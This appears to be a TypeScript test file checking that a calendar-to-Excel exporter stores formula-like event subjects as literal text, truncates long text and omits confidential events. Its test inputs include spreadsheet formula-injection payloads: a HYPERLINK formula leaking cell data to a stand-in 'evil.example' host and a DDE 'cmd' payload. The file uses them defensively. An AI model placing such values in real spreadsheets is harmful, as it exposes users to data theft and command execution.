import JSZip from 'jszip';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCatalog } from '../../src/core/catalog';
import { EXCEL_CELL_TEXT_LIMIT } from '../../src/workbook/cell-text';
import { writeWeekToWorkbook } from '../../src/workbook/write-week';
import { graphEvent } from '../support/graph-event';
import { readTablesWithExcelJs } from './support/exceljs-reader';
import type { DumpedWorkbook } from './support/independent-readers';
import {
  dumpWithOpenpyxl,
  recalculateWithLibreOffice,
  tableRecords,
} from './support/independent-readers';
import { summarizeFor } from './support/weeks';

/** Text that a spreadsheet would run if it were ever taken for a formula. */
const FORMULA_LOOKALIKES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|'/c calc'!A1",
  '@SUM(A1)',
  '-2+3',
  '=1+1',
  "'=quoted",
  '\t=TAB first',
];
const LONG_SUBJECT = 'x'.repeat(40_000);
const catalog = parseCatalog([
  { code: 'MAIL', label: '=2*3', quadrant: 'I-U+', plannedHours: 5, category: '+Mail' },
]);

function week() {
  const subjects = [
    ...FORMULA_LOOKALIKES,
    LONG_SUBJECT,
    'bell\u0007 and lone \ud800 half',
    'keeps _x0041_ as typed',
  ];
  const events = subjects.map((subject, i) =>
    graphEvent({
      id: `s${i}`,
      subject,
      start: `2026-11-16T${String(8 + i).padStart(2, '0')}:00`,
      end: `2026-11-16T${String(8 + i).padStart(2, '0')}:30`,
      categories: ['+Mail'],
    }),
  );
  events.push(
    graphEvent({
      id: 'p',
      subject: 'Top secret merger',
      start: '2026-11-17T09:00',
      end: '2026-11-17T10:00',
      sensitivity: 'confidential',
    }),
  );
  return summarizeFor(events, '2026-W47', catalog);
}

/** The 40,000 x, cut to Excel's limit with the marker, named short so that a failure stays readable. */
const TRUNCATED = `${'x'.repeat(EXCEL_CELL_TEXT_LIMIT - '… [truncated]'.length)}… [truncated]`;
const short = (text: unknown) =>
  text === TRUNCATED
    ? 'TRUNCATED'
    : typeof text === 'string' && text.length > 200
      ? `${text.length} chars`
      : text;
const EXPECTED_SUBJECTS = [
  ...FORMULA_LOOKALIKES,
  'TRUNCATED',
  'bell\ufffd and lone \ufffd half',
  'keeps _x0041_ as typed',
  null,
];
// openpyxl and exceljs do not decode Excel's `_x005F` escape (Excel and LibreOffice do): for them,
// the raw stored text.
const AS_STORED = EXPECTED_SUBJECTS.map((s) =>
  s === 'keeps _x0041_ as typed' ? 'keeps _x005F_x0041_ as typed' : s,
);

const dir = mkdtempSync(join(tmpdir(), 'centaure-safety-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let bytes: Uint8Array;
let asWritten: DumpedWorkbook;
let afterLibreOffice: DumpedWorkbook;

beforeAll(async () => {
  bytes = (await writeWeekToWorkbook(null, week(), { language: 'en' })).bytes;
  const path = join(dir, 'safety.xlsx');
  writeFileSync(path, bytes);
  const [recalculated] = await recalculateWithLibreOffice([path]);
  asWritten = (await dumpWithOpenpyxl([path]))[path];
  afterLibreOffice = (await dumpWithOpenpyxl([recalculated], { values: true }))[recalculated];
}, 120_000);

describe('event text in the workbook', () => {
  it('is stored as text cells, never as formulas (openpyxl reads the file as written)', () => {
    const subjects = tableRecords(asWritten, 'Events').map((r) => r.Subject);
    expect(subjects.map((c) => short(c?.v ?? null))).toEqual(AS_STORED);
    expect(subjects.filter((c) => c !== undefined).every((c) => c!.t === 's')).toBe(true);
    expect(
      tableRecords(asWritten, 'Catalog').map((r) => [
        r.Task?.v,
        r.Task?.t,
        r['Outlook category']?.v,
      ]),
    ).toEqual([['=2*3', 's', '+Mail']]);
  });

  it('stays literal text after LibreOffice recalculates everything', () => {
    expect(
      tableRecords(afterLibreOffice, 'Events').map((r) => short(r.Subject?.v ?? null)),
    ).toEqual(EXPECTED_SUBJECTS);
    expect(tableRecords(afterLibreOffice, 'WeeklyTasks').map((r) => r.Task?.v)).toEqual(['=2*3']);
  });

  it('reads back as plain strings with exceljs too', async () => {
    const events = (await readTablesWithExcelJs(bytes)).Events;
    expect(events.rows.map((r) => short(r[7]))).toEqual(AS_STORED);
  });

  it('is inline text with Excel’s quote prefix for text people typed, and no formula anywhere in the data', async () => {
    const zip = await JSZip.loadAsync(bytes);
    const sheetNames = Object.keys(zip.files).filter((n) =>
      /^xl\/worksheets\/sheet\d+\.xml$/.test(n),
    );
    const sheets = await Promise.all(sheetNames.map(async (n) => zip.file(n)!.async('string')));
    const events = sheets.find((xml) => xml.includes('Click me'))!;
    expect(events).not.toContain('<f>');
    expect(events).toMatch(/<c r="H2" s="(\d+)" t="inlineStr"><is><t>=HYPERLINK/);
    const style = Number(/<c r="H2" s="(\d+)"/.exec(events)![1]);
    const styles = await zip.file('xl/styles.xml')!.async('string');
    const xfs = [...styles.split('<cellXfs')[1].matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    expect(xfs[style]).toContain('numFmtId="49"');
    expect(xfs[style]).toContain('quotePrefix="1"');
    // Excel would decode _x0041_ to "A": the stored text escapes it.
    expect(events).toContain('keeps _x005F_x0041_ as typed');
  });

  it('never holds the subject of a private or confidential event, in any part', async () => {
    const zip = await JSZip.loadAsync(bytes);
    const parts = await Promise.all(
      Object.values(zip.files)
        .filter((f) => !f.dir)
        .map((f) => f.async('string')),
    );
    expect(parts.some((text) => text.includes('Top secret'))).toBe(false);
  });
});
